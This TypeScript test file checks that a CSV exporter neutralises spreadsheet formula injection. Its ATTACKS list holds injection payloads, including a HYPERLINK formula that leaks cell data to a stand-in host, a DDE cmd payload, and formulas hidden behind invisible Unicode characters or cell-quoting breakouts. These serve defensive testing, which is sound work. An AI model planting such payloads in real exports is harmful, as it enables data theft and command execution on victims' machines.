import { describe, expect, it } from 'vitest';
import { csv } from './csv.ts';

/** RFC 4180 read by a parser of the test's own, with the given separator. */
function parse(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      rows.at(-1)!.push(cell);
      cell = '';
    } else if (c === '\n' && text[i - 1] === '\r') {
      rows.at(-1)!.push(cell);
      rows.push([]);
      cell = '';
    } else if (c !== '\r') cell += c;
  }
  return rows.slice(0, -1);
}

const FORMULA = /^[\p{Cc}\p{Cf}\p{Z}]*[=+\-@＝＋－＠|%\t\r]/u;

const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '%0A=1',
  '|calc',
  'ok","=1+1","',
  'ok"\r\n=1+1,"',
  'ok;=1+1',
  'ok; \u200b@SUM(1)',
  'ok\t=1+1',
];

describe('CSV', () => {
  it('reads back as it was written', () => {
    const rows = [
      ['氏名', 'Organisation', 'Note'],
      ['髙橋 𠮷郎', 'A "quoted", name', 'two; parts'],
      ['', '12', 'ends with backslash \\'],
    ];
    const text = csv(rows);
    expect(text.startsWith('\ufeff')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parse(text.slice(1))).toEqual(rows);
  });

  it.each(ATTACKS)('does not let %j become a formula, whatever separates the cells', (attack) => {
    const text = csv([['x', attack, 'y']]).slice(1);
    const rows = parse(text);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toHaveLength(3);
    for (const separator of [',', ';', '\t']) {
      for (const cell of parse(text, separator).flat()) expect(cell).not.toMatch(FORMULA);
    }
  });

  it('leaves ordinary text alone, and numbers numbers', () => {
    expect(csv([['Mori-Sato', 'a=b', 7, null]]).slice(1)).toBe('"Mori-Sato","a=b",7,""\r\n');
  });
});
